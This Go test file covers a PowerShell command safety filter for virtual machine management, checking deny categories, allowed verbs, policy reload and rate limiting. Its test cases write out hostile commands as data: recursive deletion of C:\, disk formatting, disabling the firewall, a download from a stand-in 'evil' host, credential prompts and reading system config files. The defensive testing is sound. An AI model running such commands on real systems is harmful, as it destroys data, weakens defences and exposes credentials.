package safety

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func newTestFilter(t *testing.T) *Filter {
	t.Helper()
	f, err := NewFilter(DefaultPolicy())
	require.NoError(t, err)
	return f
}

func TestEvaluate_EmptyInput(t *testing.T) {
	f := newTestFilter(t)

	for _, cmd := range []string{"", "   ", "\t\n"} {
		v := f.Evaluate(cmd)
		assert.False(t, v.Safe)
		assert.Equal(t, "invalid input", v.Reason)
	}
}

func TestEvaluate_DestructiveDelete(t *testing.T) {
	f := newTestFilter(t)

	v := f.Evaluate(`Remove-Item 'C:\' -Recurse -Force`)
	assert.False(t, v.Safe)
	assert.Equal(t, "destructive-delete", v.Category)
}

func TestEvaluate_DenyListPrecedence(t *testing.T) {
	f := newTestFilter(t)

	// Allow-listed verb combined with a destructive pattern is still
	// rejected: deny beats allow.
	v := f.Evaluate(`Get-VM 'WebServer01'; Remove-Item 'C:\data' -Recurse -Force`)
	assert.False(t, v.Safe)
	assert.Equal(t, "destructive-delete", v.Category)

	v = f.Evaluate(`Start-VM -Name 'x'; Invoke-Expression $payload`)
	assert.False(t, v.Safe)
	assert.Equal(t, "code-injection", v.Category)
}

func TestEvaluate_DenyCategories(t *testing.T) {
	f := newTestFilter(t)

	cases := map[string]string{
		`Format-Volume -DriveLetter D`:                           "disk-format",
		`reg add HKLM\Software\Evil /v x /d y`:                   "registry-write",
		`Register-ScheduledTask -TaskName backdoor`:              "persistence",
		`Invoke-WebRequest http://evil/x -OutFile c:\x`:          "exfiltration",
		`Get-Credential -UserName admin`:                         "credential-theft",
		`powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0AWQ=`: "encoded-command",
		`Stop-Process -Name lsm -Force`:                          "process-kill",
		`netsh advfirewall set allprofiles state off`:            "defense-tampering",
		`Get-Content C:\Windows\System32\config\x`:               "sensitive-path",
	}
	for cmd, category := range cases {
		v := f.Evaluate(cmd)
		assert.False(t, v.Safe, "command %q", cmd)
		assert.Equal(t, category, v.Category, "command %q", cmd)
	}
}

func TestEvaluate_AllowedVerbs(t *testing.T) {
	f := newTestFilter(t)

	cases := []string{
		`Get-VM | Select-Object Name,State | ConvertTo-Json`,
		`Start-VM -Name 'WebServer01'`,
		`Checkpoint-VM -Name 'db' -SnapshotName 'pre-upgrade'`,
		`Get-VMSwitch | ConvertTo-Json -Depth 3`,
		`Get-IscsiTarget | Format-Table`,
		`Get-ClusterNode | Select-Object Name,State`,
	}
	for _, cmd := range cases {
		v := f.Evaluate(cmd)
		assert.True(t, v.Safe, "command %q: %s", cmd, v.Reason)
	}
}

func TestEvaluate_UnknownVerbPermissive(t *testing.T) {
	f := newTestFilter(t)

	// Default policy logs but permits unknown verbs once the
	// deny-list has cleared.
	v := f.Evaluate(`Get-VM | Invoke-CustomThing`)
	assert.True(t, v.Safe)
}

func TestEvaluate_UnknownVerbStrict(t *testing.T) {
	p := DefaultPolicy()
	p.UnknownVerbs = RejectUnknown
	f, err := NewFilter(p)
	require.NoError(t, err)

	v := f.Evaluate(`Get-VM | Invoke-CustomThing`)
	assert.False(t, v.Safe)
	assert.Equal(t, "unknown-verb", v.Category)

	// Fully recognized pipelines still pass.
	v = f.Evaluate(`Get-VM | ConvertTo-Json`)
	assert.True(t, v.Safe)
}

func TestEvaluate_NoTokens(t *testing.T) {
	f := newTestFilter(t)

	// Variable assignments and pure expressions are permitted.
	assert.True(t, f.Evaluate(`$name = 'WebServer01'`).Safe)
	assert.True(t, f.Evaluate(`$vm.State`).Safe)
	assert.True(t, f.Evaluate(`'literal'`).Safe)

	// Bare words with no recognizable shape are not.
	assert.False(t, f.Evaluate(`shutdown now`).Safe)
	assert.False(t, f.Evaluate(`bash -c something`).Safe)
}

func TestEvaluate_Reload(t *testing.T) {
	f := newTestFilter(t)

	assert.True(t, f.Evaluate(`Get-VM`).Safe)

	p := DefaultPolicy()
	p.DenyRules = append([]DenyRule{{Category: "custom", Pattern: `(?i)get-vm`}}, p.DenyRules...)
	require.NoError(t, f.Reload(p))

	v := f.Evaluate(`Get-VM`)
	assert.False(t, v.Safe)
	assert.Equal(t, "custom", v.Category)
}

func TestReload_InvalidPattern(t *testing.T) {
	f := newTestFilter(t)

	p := DefaultPolicy()
	p.DenyRules = []DenyRule{{Category: "bad", Pattern: `([`}}
	assert.Error(t, f.Reload(p))

	// Old rules still in effect.
	assert.False(t, f.Evaluate(`Remove-Item 'C:\' -Recurse -Force`).Safe)
}

func TestCheck_RateLimitShortCircuits(t *testing.T) {
	p := DefaultPolicy()
	p.RateLimit = RateLimit{MaxCommands: 2, Window: time.Hour}
	f, err := NewFilter(p)
	require.NoError(t, err)

	assert.True(t, f.Check(`Get-VM`).Safe)
	assert.True(t, f.Check(`Get-VM`).Safe)

	v := f.Check(`Get-VM`)
	assert.False(t, v.Safe)
	assert.Equal(t, CategoryRateLimit, v.Category)

	// Content is irrelevant once the window is exhausted.
	v = f.Check(``)
	assert.Equal(t, CategoryRateLimit, v.Category)
}
